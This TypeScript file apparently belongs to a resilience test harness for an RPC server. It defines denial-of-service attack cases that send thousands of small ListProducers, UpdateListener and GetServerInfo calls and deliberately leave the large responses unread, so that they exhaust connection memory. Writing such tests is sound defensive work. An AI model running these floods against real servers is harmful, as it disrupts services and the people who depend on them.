/**
 * Unary calls whose answers are not read. Requests of a few bytes have answers of a megabyte, which wait in the memory of
 * the connection.
 */
import type { Attack } from "../attack.js";
import type { Attacker } from "../attacker/attacker.js";
import { openLargeProducers } from "./list-pages.js";
import { listen, METHOD, page, updateListener } from "./messages.js";

const CALLS = 4_000;

export const listProducersUnread: Attack = {
  name: "list-producers-unread",
  sends: `ListProducers: ${CALLS} calls whose answers are not read`,
  async run(attacker) {
    await openLargeProducers(attacker);
    await callUnread(attacker, METHOD.listProducers, page(10));
  },
};

/** The answer of UpdateListener names all topics of the listener: 10,000 topics of 200 bytes are 2 MB. */
export const updateListenerUnread: Attack = {
  name: "update-listener-unread",
  sends: `UpdateListener: ${CALLS} calls that change nothing, of a listener with 10,000 long topics`,
  async run(attacker) {
    const topics = Array.from({ length: 10_000 }, (_, i) => `${"x".repeat(80)}.${i}`);
    const listener = attacker.connect().open(METHOD.listen);
    listener.send(listen("long", topics));
    listener.finish();
    await attacker.wait(500);
    await callUnread(attacker, METHOD.updateListener, updateListener("long", {}));
  },
};

export const serverInfoUnread: Attack = {
  name: "server-info-unread",
  sends: "GetServerInfo: 100,000 calls whose answers are not read",
  async run(attacker) {
    await callUnread(attacker, METHOD.getServerInfo, Buffer.alloc(0), 100_000);
  },
};

async function callUnread(attacker: Attacker, method: string, message: Buffer, calls = CALLS): Promise<void> {
  for (let i = 0; i < calls && attacker.goesOn; i += 900) {
    const unread = attacker.connect({ readsNothing: true });
    for (let k = i; k < Math.min(calls, i + 900) && attacker.goesOn; k++) {
      void unread.call(method, message, { isUnread: true });
      if (k % 20 === 19) await attacker.wait(5);
    }
  }
  await attacker.wait(2_000);
}
